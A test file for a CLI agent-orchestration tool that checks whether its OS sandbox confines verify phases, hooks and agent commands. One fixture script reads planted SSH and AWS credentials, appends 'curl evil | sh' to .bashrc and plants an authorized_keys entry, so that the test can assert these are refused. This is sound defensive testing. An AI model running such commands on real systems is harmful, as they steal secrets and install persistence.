/**
 * The fence under the defaults (`sandbox: auto`), met as a user meets it: the real CLI, a git
 * repository with a `.gitignore` and none of the folders the write globs name, a fake HOME
 * with planted secrets. Verify phases and hooks run the agent's code in the fence; ordinary
 * toolchains run in it without a refusal; write globs are exact and livable (new folders are
 * made, what falls outside is refused or undone); `on_refusal: warn` keeps the result.
 */
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import process from "node:process";
import { beforeAll, describe, expect, it } from "vitest";
import { probeSandbox } from "../../src/host/probe-sandbox.ts";
import { cliAsync, ensureBuilt, events, git, runDir, tempDir, write } from "../cli/cli-helpers.ts";

const probe = probeSandbox();

beforeAll(() => ensureBuilt(), 120_000);

/** A git repository with a `.gitignore`, and a fake HOME holding planted secrets and dotfiles. */
function world() {
  const root = tempDir("phaseloop-livable-");
  const home = join(root, "home");
  const work = join(root, "repo");
  for (const d of [join(home, ".ssh"), join(home, ".aws"), work]) mkdirSync(d, { recursive: true });
  writeFileSync(join(home, ".bashrc"), "original\n");
  writeFileSync(join(home, ".ssh", "id_rsa"), "PLANTED-SSH-KEY\n");
  writeFileSync(join(home, ".aws", "credentials"), "PLANTED-AWS-KEY\n");
  git(work, "init", "-q");
  write(work, { ".gitignore": "node_modules/\n__pycache__/\n.pytest_cache/\ntarget/\nCargo.lock\n*.o\nprog\n", "README.md": "readme\n" });
  git(work, "add", ".");
  git(work, "-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm", "init");
  return { root, home, work };
}

/** Every file under `dir` whose content holds `needle`. */
function holding(dir: string, needle: string): string[] {
  const found: string[] = [];
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const p = join(d, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.isFile() && readFileSync(p, "utf8").includes(needle)) found.push(p);
    }
  };
  walk(dir);
  return found;
}

const once = `stop:
  max_iterations: 1
  when:
    - if: "true"
      outcome: complete
`;

function hasTool(argv: string[]): boolean {
  try {
    execFileSync(argv[0]!, argv.slice(1), { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

describe.skipIf(!probe.available)("the fence under the defaults", () => {
  it("a verify phase running hostile code the agent wrote reads no secret and changes no dotfile; the refusals fail it", async () => {
    const { root, home, work } = world();
    write(work, {
      "evil.test.sh": `cat "$HOME/.ssh/id_rsa" > stolen.txt; cp -r "$HOME/.aws" aws-copy; echo 'curl evil | sh' >> "$HOME/.bashrc"; echo key > "$HOME/.ssh/authorized_keys"; echo ok\n`,
      "p.yaml": `phaseloop: 1\nname: verify\nphases:\n  verify:\n    run: sh evil.test.sh\n${once}`,
    });
    const r = await cliAsync(["run", "p.yaml", "--reporter", "plain"], work, { HOME: home }).done;
    expect([0, 1], r.stdout + r.stderr).toContain(r.code); // the stop rule decides; the phase's failure is below
    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("original\n");
    expect(existsSync(join(home, ".ssh", "authorized_keys"))).toBe(false);
    expect(holding(root, "PLANTED-SSH-KEY")).toEqual([join(home, ".ssh", "id_rsa")]);
    expect(holding(root, "PLANTED-AWS-KEY")).toEqual([join(home, ".aws", "credentials")]);
    const ev = events(work);
    expect(ev.find((e) => e.type === "phase.started")).toMatchObject({ sandbox: true });
    expect(ev.find((e) => e.type === "phase.finished")).toMatchObject({ status: "failed", error: "policy_violation" });
    const refused = (ev.find((e) => e.type === "sandbox.refused") as { refused: string[] }).refused.join("\n");
    expect(refused).toContain(`write ${home}/.bashrc`);
    expect(readFileSync(join(runDir(work), "summary.md"), "utf8")).toContain("refused by the OS sandbox");
  }, 60_000);

  it("a run phase or hook with sandbox: off runs unfenced, and validate and --dry-run say so", async () => {
    const { home, work } = world();
    write(work, { "p.yaml": `phaseloop: 1\nname: off\nhooks:\n  on_complete: { run: "echo hook >> \\"$HOME/.hooked\\"", sandbox: off }\nphases:\n  verify:\n    run: echo x >> "$HOME/.ran"\n    sandbox: off\n${once}` });
    const v = await cliAsync(["validate", "p.yaml"], work, { HOME: home }).done;
    expect(v.stdout).toContain("verify off");
    const dry = await cliAsync(["run", "p.yaml", "--dry-run"], work, { HOME: home }).done;
    expect(dry.stdout).toMatch(/^ {2}verify: .*\n(?: {4}.*\n)* {4}OS sandbox: off$/m); // under the phase's plan
    expect(dry.stdout).toMatch(/hook on_complete: off|on_complete \(OS sandbox: off\)/);
    const r = await cliAsync(["run", "p.yaml", "--reporter", "plain"], work, { HOME: home }).done;
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(readFileSync(join(home, ".ran"), "utf8")).toBe("x\n");
    expect(readFileSync(join(home, ".hooked"), "utf8")).toBe("hook\n");
    expect(events(work).find((e) => e.type === "phase.started")).toMatchObject({ sandbox: false });
  }, 60_000);

  it("a hook runs in the fence: its write to a dotfile is refused and recorded", async () => {
    const { home, work } = world();
    write(work, { "p.yaml": `phaseloop: 1\nname: hooked\nhooks:\n  on_complete: "echo evil >> $HOME/.bashrc; echo built > hook-out.txt"\nphases:\n  verify:\n    run: "true"\n${once}` });
    const r = await cliAsync(["run", "p.yaml", "--reporter", "plain"], work, { HOME: home }).done;
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("original\n");
    expect(readFileSync(join(work, "hook-out.txt"), "utf8")).toBe("built\n"); // the workdir is the hook's
    const ev = events(work);
    expect(ev.find((e) => e.type === "sandbox.refused")).toMatchObject({ phase: "hook on_complete" });
    expect(ev.find((e) => e.type === "hook.finished")).toMatchObject({ ok: false });
  }, 60_000);

  it("an agent creates the folders its globs name, in a repo without them, and what falls outside is refused or undone", async () => {
    const { work } = world();
    const script = "mkdir -p src/util/deep && echo a > src/util/deep/a.ts && echo n > docs/new.md && echo bad > docs/run.sh && echo r >> README.md; echo t > /tmp/scratch && cat /tmp/scratch; exit 0";
    write(work, { "p.yaml": `phaseloop: 1\nname: globs\nagents:\n  a: { command: [sh, -c, ${JSON.stringify(script)}] }\ntools:\n  w: { write: ["src/**", "docs/*.md"] }\nphases:\n  work:\n    agent: a\n    prompt: go\n    tools: w\n${once}` });
    const r = await cliAsync(["run", "p.yaml", "--reporter", "plain"], work).done;
    // the refusal fails the agent phase, and a failure no rule tests never completes the run
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(events(work).at(-1)).toMatchObject({ outcome: "failed", reason: { code: "unhandled_failure", message: expect.stringContaining("refused") } });
    expect(readFileSync(join(work, "src/util/deep/a.ts"), "utf8")).toBe("a\n");
    expect(readFileSync(join(work, "docs/new.md"), "utf8")).toBe("n\n");
    expect(existsSync(join(work, "docs/run.sh"))).toBe(false);
    expect(readFileSync(join(work, "README.md"), "utf8")).toBe("readme\n");
    const ev = events(work);
    const refused = (ev.find((e) => e.type === "sandbox.refused") as { refused: string[] }).refused.join("\n");
    expect(refused).toContain(`write ${work}/docs/run.sh`);
    expect(refused).toContain(`write ${work}/README.md`);
    expect(refused).not.toContain("/tmp/scratch");
    expect(ev.find((e) => e.type === "phase.finished")).toMatchObject({ error: "policy_violation" });
  }, 60_000);

  it("each phase meets an empty private /tmp of its own: what one wrote there, files and folders, is gone for the next", async () => {
    const { work } = world();
    // the command names /tmp itself (TMPDIR is /tmp inside too): it is the private one all the same
    const look = '{ ls -A /tmp; stat -c %a "$TMPDIR"; echo ---; } >> seen.txt; echo x > /tmp/left; mkdir -p /tmp/made/deep; echo y > /tmp/made/deep/f; find /tmp/ -name f > /dev/null; chmod 777 /tmp';
    write(work, { "p.yaml": `phaseloop: 1\nname: tmps\nphases:\n  look:\n    run: ${JSON.stringify(look)}\n    next:\n      - if: iteration >= 3\n        stop: complete\n      - goto: look\nstop: { max_iterations: 3 }\n` });
    const r = await cliAsync(["run", "p.yaml", "--reporter", "plain"], work).done;
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const seen = readFileSync(join(work, "seen.txt"), "utf8").split("---\n").filter((s) => s !== "");
    expect(seen).toHaveLength(3);
    for (const listing of seen) {
      expect(listing).not.toMatch(/^(?:left|made)$/m);
      expect(listing.trim().split("\n").pop()).toBe("700");
    }
    // nothing reached the host's /tmp
    expect(existsSync("/tmp/left")).toBe(false);
    expect(events(work).filter((e) => e.type === "sandbox.refused")).toEqual([]);
  }, 60_000);

  it("on_refusal: warn keeps the phase's result and still reports the refusal", async () => {
    const { work } = world();
    write(work, { "p.yaml": `phaseloop: 1\nname: warn\non_refusal: warn\nagents:\n  a: { command: [sh, -c, "echo a > src/a.ts; echo r > other.txt; exit 0"] }\ntools:\n  w: { write: ["src/**"] }\nphases:\n  work:\n    agent: a\n    prompt: go\n    tools: w\n${once}` });
    const r = await cliAsync(["run", "p.yaml", "--reporter", "plain"], work).done;
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const ev = events(work);
    expect(ev.find((e) => e.type === "phase.finished")).toMatchObject({ status: "succeeded" });
    expect((ev.find((e) => e.type === "sandbox.refused") as { refused: string[] }).refused.join("\n")).toContain(`write ${work}/other.txt`);
    expect(r.stdout).toContain("refused by the OS sandbox");
  }, 60_000);

  it("ordinary toolchains run in a verify phase and in an agent phase that may reach a host, with no refusal", async () => {
    const { home, work } = world();
    write(work, {
      "package.json": JSON.stringify({ name: "x", version: "1.0.0", scripts: { test: "node --test" } }),
      "test/a.test.js": `require("node:test")("a", () => {});\nrequire("node:fs").writeFileSync(require("node:os").tmpdir() + "/t", "x");\n`,
      "test_a.py": `def test_x(tmp_path):\n    (tmp_path / "f").write_text("x")\n    assert (tmp_path / "f").read_text() == "x"\n`,
      "Makefile": "prog: main.o\n\tcc -o prog main.o\nmain.o: main.c\n\tcc -c main.c\n",
      "main.c": "int main(void) { return 0; }\n",
      "cr/Cargo.toml": '[package]\nname = "cr"\nversion = "0.1.0"\nedition = "2021"\n',
      "cr/src/main.rs": "fn main() {}\n#[test]\nfn adds() { assert_eq!(1 + 1, 2); }\n",
    });
    // cargo and rustup live in the real home (the fake HOME has none): they are pointed there, read-only in the fence
    const realHome = process.env.HOME ?? "";
    const rust = existsSync(join(realHome, ".rustup")) && hasTool(["cargo", "--version"]) ? { RUSTUP_HOME: join(realHome, ".rustup"), CARGO_HOME: join(realHome, ".cargo") } : undefined;
    const steps = ["npm test", ...(hasTool(["python3", "-m", "pytest", "--version"]) ? ["python3 -m pytest -q"] : []), ...(hasTool(["cc", "--version"]) ? ["make", "./prog"] : []), ...(rust ? ["(cd cr && cargo test --offline -q)"] : []), "git status --short", "git diff", "git log --oneline", "echo x > /tmp/by-name && cat /tmp/by-name"];
    const script = `set -e; ${steps.join("; ")}`;
    write(work, {
      "p.yaml": `phaseloop: 1\nname: tools\nagents:\n  a: { command: [sh, -c, ${JSON.stringify(script)}] }\ntools:\n  w: { write: ["**"], network: ["registry.example.test"] }\nphases:\n  work:\n    agent: a\n    prompt: go\n    tools: w\n  verify:\n    run: ${JSON.stringify(script)}\n${once.replace('"true"', "phases.verify.status == 'succeeded' || phases.verify.status == 'failed'")}`,
    });
    // the tools themselves come from the user's home (npm's, cargo's) as the real HOME has them
    const r = await cliAsync(["run", "p.yaml", "--reporter", "plain"], work, { HOME: home, ...rust }).done;
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const ev = events(work);
    expect(ev.filter((e) => e.type === "sandbox.refused"), r.stdout).toEqual([]);
    if (rust) for (const phase of ["0001-work", "0002-verify"]) expect(readFileSync(join(runDir(work), "phases", phase, "stdout.log"), "utf8")).toContain("test result: ok");
    const finished = ev.filter((e) => e.type === "phase.finished");
    expect(finished.map((e) => [e.phase, e.status, e.message])).toEqual([["work", "succeeded", null], ["verify", "succeeded", null]]);
    expect(ev.filter((e) => e.type === "phase.started").map((e) => e.sandbox)).toEqual([true, true]);
    expect(existsSync("/tmp/by-name") && readFileSync("/tmp/by-name", "utf8") === "x\n").toBe(false);
  }, 120_000);
});
